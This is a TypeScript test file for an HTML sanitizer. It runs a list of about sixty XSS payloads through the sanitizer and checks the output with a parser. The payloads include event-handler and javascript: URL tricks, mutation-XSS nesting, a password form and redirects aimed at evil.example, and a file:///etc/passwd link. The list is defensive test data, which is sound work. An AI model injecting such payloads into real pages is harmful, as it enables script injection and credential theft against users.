import { JSDOM } from 'jsdom';
import { expect, test } from 'vitest';
import { cleanHtml } from './index.ts';

/** Markup known to run a script, send a form, or load something from elsewhere. */
const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https:evil">x</a>',
  '<a href="#/ok" onclick="alert(1)">x</a>',
  '<a href="#/ok" style="position:fixed;inset:0">x</a>',
  '<p onmouseover=alert(1)>x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p class="dialog" id="main">x</p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<table background="javascript:alert(1)"><tr><td background="x" onclick=alert(1)>x</td></tr></table>',
  '<p>\0<scr\0ipt>alert(1)</scr\0ipt></p>',
  '<<p>script>alert(1)//<</p>',
  '<a href="https://evil.example" target="_top" ping="https://evil.example">x</a>',
  '<button popovertarget=x onclick=alert(1)>x</button>',
];

const ELEMENTS = new Set(
  'H2 H3 H4 P UL OL LI A STRONG EM U BLOCKQUOTE HR BR TABLE CAPTION THEAD TBODY TFOOT TR TH TD'.split(' '),
);
const ATTRIBUTES = new Set(['href', 'target', 'rel', 'start', 'colspan', 'rowspan', 'scope']);

/** Judged by a real parser, not by the text. */
function judged(html: string): string[] {
  const { body } = new JSDOM(`<!doctype html><body>${html}`).window.document;
  return [...body.querySelectorAll('*')].flatMap((element) => [
    ...(ELEMENTS.has(element.tagName) ? [] : [element.tagName]),
    ...[...element.attributes].filter(({ name }) => !ATTRIBUTES.has(name)).map(({ name }) => `@${name}`),
    ...[...element.attributes]
      .filter(({ name, value }) => name === 'href' && !/^(https?:\/\/|mailto:|tel:|#\/)/i.test(value))
      .map(({ value }) => value),
  ]);
}

test.each(hostile)('[NODE-2] is harmless after cleaning: %s', (html) => {
  const clean = cleanHtml(html);
  expect(judged(clean)).toEqual([]);
  expect(cleanHtml(clean)).toBe(clean);
});

test('[NODE-2] a text keeps what it needs', () => {
  const text =
    '<h2>A</h2><h3>B</h3><h4>C</h4><p><strong>a</strong> <em>b</em> <u>c</u><br />d</p><ul><li><p>x</p></li></ul>' +
    '<ol start="3"><li>y</li></ol><blockquote><p>z</p></blockquote><hr />' +
    '<table><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td colspan="2">c</td></tr></tbody></table>' +
    '<p><a href="mailto:a@b.example">m</a><a href="tel:+385123">t</a><a href="#/read/help">h</a></p>';
  expect(cleanHtml(text)).toBe(text);
});

test('[NODE-2] outside links cannot reach back, and open a new window only when asked to', () => {
  expect(cleanHtml('<a href="https://a.example">a</a>')).toBe('<a href="https://a.example" rel="noopener">a</a>');
  expect(cleanHtml('<a target="_blank" rel="opener" href="https://a.example">a</a>')).toBe(
    '<a href="https://a.example" rel="noopener" target="_blank">a</a>',
  );
  expect(cleanHtml('<a href="#top">a</a><a href="/api/logout">b</a>')).toBe('<a>a</a><a>b</a>');
});

test('[NODE-2] pasted text of other programs becomes plain; direction overrides and NUL go', () => {
  expect(cleanHtml('<h1>A</h1><b>b</b><i>i</i><span style="color:red">s</span>')).toBe(
    '<h2>A</h2><strong>b</strong><em>i</em>s',
  );
  expect(cleanHtml('<p>a\u202Eb\0c &amp; &lt;d&gt;</p>')).toBe('<p>abc &amp; &lt;d&gt;</p>');
});
